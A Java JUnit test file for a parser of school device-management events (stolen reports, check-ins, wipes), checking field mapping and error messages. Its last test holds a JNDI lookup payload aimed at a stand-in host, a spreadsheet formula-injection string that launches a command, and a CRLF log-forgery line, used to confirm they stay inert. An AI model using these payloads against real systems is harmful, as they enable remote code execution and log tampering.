package org.trustwatch.ingest.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.trustwatch.schema.EndpointEvent;

class MdmParserTest {

    private static Collected parse(String... lines) {
        return Collected.parse(new MdmParser(Collected.context()), lines);
    }

    @Test
    void stolenLaptopReport() {
        EndpointEvent e = parse(
                        "{\"time\":\"2025-03-10T16:20:00Z\",\"device_id\":\"WOH-LT-0231\",\"serial\":\"5CG1234XYZ\","
                                + "\"hostname\":\"WOH-LT-0231\",\"action\":\"reported_stolen\",\"user_id\":\"jsmith\","
                                + "\"reported_by\":\"office@woh.sch.uk\",\"location\":\"WOH/staff-car-park\","
                                + "\"note\":\"Taken from car\\nafter parents' evening\"}")
                .only(EndpointEvent.class);
        assertEquals(Instant.parse("2025-03-10T16:20:00Z"), e.getTimestamp());
        assertEquals("mdm", e.getEventDataset());
        assertEquals("mdm", e.getEventCode());
        assertEquals("mdm", e.getEventProvider());
        assertEquals("reported_stolen", e.getEventAction());
        assertEquals("WOH-LT-0231", e.getDeviceId());
        assertEquals("5CG1234XYZ", e.getDeviceSerial());
        assertEquals("woh-lt-0231", e.getHostName());
        assertEquals("jsmith", e.getUserName());
        assertEquals("office@woh.sch.uk", e.getMdmReportedBy());
        assertEquals("WOH/staff-car-park", e.getMdmLocation());
        assertEquals("Taken from car after parents' evening", e.getMessage(), "no line breaks kept");
        assertEquals(List.of(), e.getHostIp());
        assertEquals("WOH", e.getSchoolId());
    }

    @Test
    void checkInByIpWithLocalTimeAndOnlyASerial() {
        EndpointEvent e = parse("{\"time\":\"2025-06-02 07:55:10\",\"serial\":\"DMPX81ABQ1GC\","
                        + "\"action\":\"CHECK_IN\",\"ip\":\"10.20.40.12\"}")
                .only(EndpointEvent.class);
        assertEquals(Instant.parse("2025-06-02T06:55:10Z"), e.getTimestamp(), "offset-less time is school time");
        assertEquals("check_in", e.getEventAction());
        assertEquals(List.of("10.20.40.12"), e.getHostIp());
        assertEquals("10.20.40.12", e.getSourceIp());
        assertNull(e.getDeviceId());
        assertNull(e.getHostName());
        assertEquals("DMPX81ABQ1GC", e.getDeviceSerial());
    }

    @Test
    void everyAllowedActionIsAccepted() {
        for (String action : MdmParser.ACTIONS) {
            EndpointEvent e = parse("{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"IPAD-017\",\"action\":\""
                            + action + "\"}")
                    .only(EndpointEvent.class);
            assertEquals(action, e.getEventAction());
        }
    }

    @Test
    void missingOrWrongFieldsAreRejectedNamingTheField() {
        assertEquals(
                "action 'borrowed' is not one of reported_lost, reported_stolen, lost_mode_enabled, wiped,"
                        + " check_in, recovered",
                parse("{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"IPAD-017\",\"action\":\"borrowed\"}")
                        .onlyReason());
        assertEquals(
                "no device_id, serial or hostname: the event names no device",
                parse("{\"time\":\"2025-03-10T09:00:00Z\",\"action\":\"wiped\",\"user_id\":\"jsmith\"}")
                        .onlyReason());
        assertEquals(
                "no 'time' (when the action happened): required",
                parse("{\"device_id\":\"IPAD-017\",\"action\":\"wiped\"}").onlyReason());
        assertEquals(
                "time '10/03/2025' is not an ISO 8601 date-time",
                parse("{\"time\":\"10/03/2025\",\"device_id\":\"IPAD-017\",\"action\":\"wiped\"}")
                        .onlyReason());
        assertTrue(parse("{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"IPAD-017\"}")
                .onlyReason()
                .startsWith("no 'action' (one of reported_lost"));
        assertEquals(
                "field 'device_id' must be a string, not an object",
                parse("{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":{\"id\":1},\"action\":\"wiped\"}")
                        .onlyReason());
        assertEquals(
                "ip 'not-an-ip' is not an IP address",
                parse(
                                "{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"X\",\"action\":\"wiped\",\"ip\":\"not-an-ip\"}")
                        .onlyReason());
        assertEquals(
                "ip '10.20.300.1' is not an IP address",
                parse(
                                "{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"X\",\"action\":\"wiped\",\"ip\":\"10.20.300.1\"}")
                        .onlyReason());
        assertTrue(parse("device IPAD-017 wiped").onlyReason().startsWith("not a JSON object"));
        assertTrue(parse("{\"time\":\"2025-03-10T09:00:00Z\",").onlyReason().startsWith("JSON ends before"));
    }

    @Test
    void duplicateKeysAreAmbiguousAndRejected() {
        assertEquals(
                "key 'device_id' appears twice in one JSON object: ambiguous, rejected",
                parse(
                                "{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"A\",\"device_id\":\"B\",\"action\":\"wiped\"}")
                        .onlyReason());
    }

    @Test
    void injectionTextStaysInertData() {
        EndpointEvent e = parse("{\"time\":\"2025-03-10T09:00:00Z\",\"device_id\":\"${jndi:ldap://x.example/a}\","
                        + "\"action\":\"recovered\",\"note\":\"=cmd|' /C calc'!A0\\r\\nFAKE: line\"}")
                .only(EndpointEvent.class);
        assertEquals("${jndi:ldap://x.example/a}", e.getDeviceId());
        assertEquals("=cmd|' /C calc'!A0  FAKE: line", e.getMessage());
    }
}
